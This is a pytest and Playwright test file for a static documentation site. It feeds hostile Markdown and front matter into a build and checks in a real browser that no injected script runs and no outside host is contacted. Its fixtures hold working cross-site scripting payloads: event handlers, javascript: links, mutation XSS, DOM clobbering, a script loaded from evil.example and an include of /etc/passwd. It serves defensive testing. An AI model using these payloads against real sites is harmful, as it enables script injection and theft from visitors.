"""What strangers may send, through a built site, in a real browser in which every script that runs is recorded."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from playwright.sync_api import BrowserContext, expect

from project import Project, make_project
from serving import search, serve

ATTACK = "<img src=x onerror=ran(1)><script>ran(2)</script>"
QUOTED = "\"'></title><script>ran(3)</script><svg onload=ran(4)>"

# A family a line: what it tries, the title it has, its body.
BODIES = (
    ("script", "before\n\n<script>ran()</script>\n\n<script src=https://evil.example/x.js></script>\n\nafter"),
    ("handler", "before <b onclick=ran()>x</b> <img src=x onerror=ran()> <svg/onload=ran()> after"),
    ("address", "before [a](javascript:ran()) <a href='java&#9;script:ran()'>b</a> [c](data:text/html,ran) after"),
    ("frame", "before\n\n<iframe srcdoc='<script>parent.ran()</script>'></iframe>\n<object data=x></object>\n\nafter"),
    (
        "mutation",
        "before <math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=ran()>'>\n\nafter",
    ),
    ("noscript", "before <noscript><p title='</noscript><img src=x onerror=ran()>'></noscript> after"),
    ("unclosed", "before <div><section><textarea><title><style> after\n\n</p></div></article></main>\n\nafter"),
    (
        "clobber",
        'before <p id="__config">{"base":"https://evil.example"}</p>\n\n## __config\n\n<a name=body>x</a> after',
    ),
    (
        "cover",
        'before <a class="md-consent__overlay" style="position:fixed" href="https://evil.example">x</a> after',
    ),
    (
        "base",
        '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">before after',
    ),
    (
        "form",
        "before <form action=https://evil.example><button formaction=javascript:ran()>x</button> after",
    ),
    ("formula", r"before $\href{javascript:ran()}{x} \text{<img src=x onerror=ran()>}$ $\style{x}{y}$ after"),
    (
        "diagram",
        'before\n\n```mermaid\ngraph TD\nA["<img src=x onerror=ran()>"]\nclick B "javascript:ran()"\n```\n\nafter',
    ),
    ("template", "before {{ config }} {% include 'x' %} --8<-- \"/etc/passwd\" <!-- material/tags --> after"),
    ("part", 'before <span data-part="&lt;script&gt;ran()&lt;/script&gt;">x</span> $x$ after'),
)


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Project:
    made = make_project(tmp_path_factory.mktemp("hostile") / "site", images="hide")
    for name, body in BODIES:
        made.write(f"{name}.md", f'---\ntitle: "{name}"\nsource: "https://example.org/{name}"\n---\n{body}\n')
    for number, attack in enumerate((ATTACK, QUOTED)):
        said = json.dumps(attack)
        head = (
            f"title: {said}\nauthor: [{said}]\ntags: [{said}]\ndescription: {said}\npublication: {said}\nlang: {said}\n"
        )
        keys = "template: redirect.html\nlocation: https://evil.example\nhide: [toc]\nsearch: {boost: 9}\nicon: x\n"
        made.write(f"meta {number}.md", f"---\n{head}{keys}---\n## {attack}\n\nbefore after\n")
    made.write('"><img src=x onerror=ran()>.md', "---\ntitle: file name\n---\nbefore after\n")
    assert made.build().returncode == 0
    return made


RECORD = """
window.__ran = [];
window.ran = (...what) => window.__ran.push(['ran', ...what]);
for (const name of ['alert', 'confirm', 'prompt', 'open'])
  window[name] = (...what) => window.__ran.push([name, ...what]);
"""


def test_no_script_runs_and_nobody_else_is_asked(project: Project, context: BrowserContext) -> None:
    context.add_init_script(RECORD)
    asked: list[str] = []
    ran: list[object] = []
    torn: list[str] = []
    with serve(project.folder / "site") as address:
        page = context.new_page()
        page.on("request", lambda request: asked.append(request.url))
        for path in sorted((project.folder / "site").rglob("*.html")):
            page.goto(address + path.relative_to(project.folder / "site").as_posix().replace("%", "%25"))
            ran += page.evaluate("window.__ran")
            # Whatever a body leaves open, the page around it is still whole.
            if page.locator("footer.md-footer").count() != 1 or page.locator("article").count() != 1:
                torn.append(path.name)
            assert page.url.startswith(address)
    assert ran == []
    assert torn == []
    assert [url for url in asked if not url.startswith((address, "data:"))] == []


def test_a_hostile_title_is_text_in_the_search(project: Project, context: BrowserContext) -> None:
    context.add_init_script(RECORD)
    with serve(project.folder / "site") as address:
        page = context.new_page()
        page.goto(address)
        for word in ("onerror", "script", "before"):
            search(page, word)
            expect(page.locator(".rd-search-results h2")).not_to_have_count(0)
            page.keyboard.press("Escape")
        assert page.evaluate("window.__ran") == []
        assert page.locator(".rd-search-results script, .rd-search-results img").count() == 0


@pytest.mark.parametrize("name", [name for name, _ in BODIES])
def test_the_rest_of_the_clipping_is_kept(project: Project, name: str) -> None:
    html = Path(project.folder, "site/clippings", name, "index.html").read_text("utf-8")
    body = html.partition('class="rd-body"')[2]
    assert "before" in body
    assert "after" in body
